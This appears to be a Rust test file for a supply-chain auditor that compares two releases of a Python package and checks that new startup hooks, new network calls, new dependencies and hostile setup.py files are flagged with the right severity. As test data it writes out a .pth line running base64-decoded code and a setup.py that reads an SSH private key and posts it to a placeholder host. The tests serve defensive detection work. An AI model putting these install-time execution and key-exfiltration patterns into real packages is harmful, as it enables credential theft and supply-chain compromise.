//! Two releases of a package, of which the second does more than the first.

use crate::scratch;
use guard::finding::{Kind, Severity};
use guard::{Outcome, Report};
use std::fs;
use std::path::{Path, PathBuf};

const METADATA: &str =
    "Metadata-Version: 2.1\nName: thing\nVersion: 1.0\nRequires-Dist: requests>=2\n\n";
const CLIENT: &str = "import os, requests\ndef get(url):\n    return requests.get(url, headers={'k': os.environ['K']})\n";

fn release(files: &[(&str, &str)]) -> PathBuf {
    let folder = scratch("release");
    let own = [
        ("thing/__init__.py", "x = 1\n"),
        ("thing/client.py", CLIENT),
        ("thing-1.0.dist-info/METADATA", METADATA),
    ];
    for (path, text) in own.iter().chain(files) {
        let path = folder.join(path);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    }
    folder
}

fn diff(old: &Path, new: &Path) -> Report {
    guard::release::diff(old, new, 1_795_305_600_000)
}

fn worst(report: &Report, kind: Kind) -> Option<Severity> {
    report.findings.iter().filter(|f| f.kind == kind).map(|f| f.severity).max()
}

#[test]
fn a_release_like_the_one_before_is_quiet() {
    let report = diff(&release(&[]), &release(&[("thing/more.py", "y = 1\n")]));
    assert_eq!(report.outcome, Outcome::Clean, "{:#?}", report.findings);
    let files = report.findings.iter().find(|f| f.subject.starts_with("files of ")).unwrap();
    assert!(files.evidence[0].text.contains("1 new, 0 changed, 0 gone"), "{files:?}");
}

#[test]
fn a_new_line_at_every_start_is_high_and_critical_if_it_does_harm() {
    let old = release(&[]);
    let harmless = diff(&old, &release(&[("thing.pth", "import thing\n")]));
    assert_eq!(worst(&harmless, Kind::StartupCode), Some(Severity::High));
    let line = "import os, sys, subprocess; subprocess.Popen([sys.executable, '-c', \"import base64; exec(base64.b64decode('cGFzcw=='))\"])\n";
    let harm = diff(&old, &release(&[("thing.pth", line)]));
    assert_eq!(worst(&harm, Kind::StartupCode), Some(Severity::Critical));
    let text = crate::unwrapped(&harm);
    assert!(text.contains("thing.pth") && text.contains("runs at every Python start"), "{text}");
    let same = release(&[("thing.pth", "import thing\n")]);
    assert_eq!(worst(&diff(&same, &same), Kind::StartupCode), None);
}

#[test]
fn what_is_new_weighs_and_what_was_there_does_not() {
    let talks =
        ("thing/a.py", "import urllib.request\nurllib.request.urlopen('https://x.invalid')\n");
    let report = diff(&release(&[]), &release(&[talks]));
    assert_eq!(worst(&report, Kind::Code), Some(Severity::High), "{:#?}", report.findings);
    let old = release(&[talks]);
    let report = diff(&old, &release(&[talks, ("thing/b.py", "z = 1\n")]));
    assert_eq!(report.outcome, Outcome::Clean, "{:#?}", report.findings);
    let hidden = ("thing/b.py", "import base64\nexec(base64.b64decode('cGFzcw=='))\n");
    let report = diff(&old, &release(&[talks, hidden]));
    assert_eq!(worst(&report, Kind::Code), Some(Severity::Critical));
}

#[test]
fn a_new_dependency_is_named() {
    let metadata = METADATA.replace("\n\n", "\nRequires-Dist: plain_Crypto ; python_version > '3'\nRequires-Dist: lint; extra == 'dev'\n\n");
    let new = release(&[("thing-1.0.dist-info/METADATA", &metadata)]);
    let report = diff(&release(&[]), &new);
    let needs: Vec<_> = report.findings.iter().filter(|f| f.kind == Kind::Origin).collect();
    assert_eq!(needs[0].subject, "new dependency plain-crypto of thing 1.0");
    assert_eq!((needs[0].severity, needs[1].severity), (Severity::Medium, Severity::Low));
}

#[test]
fn a_source_archive_is_compared_without_the_folder_around_it() {
    let sdist = |version: &str, setup: &str| {
        let folder = scratch("sdist");
        let top = folder.join(format!("thing-{version}"));
        fs::create_dir_all(&top).unwrap();
        fs::write(top.join("PKG-INFO"), format!("Name: thing\nVersion: {version}\n\n")).unwrap();
        fs::write(top.join("setup.py"), setup).unwrap();
        folder
    };
    let plain = "from setuptools import setup\nsetup()\n";
    let old = sdist("1.0", plain);
    assert_eq!(diff(&old, &sdist("1.1", plain)).outcome, Outcome::Clean);
    let steals = "import os, requests\nd = open(os.path.expanduser('/nowhere/.ssh/id_rsa')).read()\nrequests.post('https://x.invalid', data=d)\n";
    let report = diff(&old, &sdist("1.1", steals));
    let found = report.findings.iter().find(|f| f.severity == Severity::Critical).unwrap();
    assert!(
        found.subject.contains("setup.py") && found.meaning.contains("at installation"),
        "{found:?}"
    );
}

#[test]
fn what_cannot_be_read_is_not_audited() {
    let old = release(&[]);
    for missing in [old.join("nothing"), old.join("thing/client.py")] {
        assert_eq!(diff(&old, &missing).outcome, Outcome::NotAudited);
        assert_eq!(diff(&missing, &old).outcome, Outcome::NotAudited);
    }
}
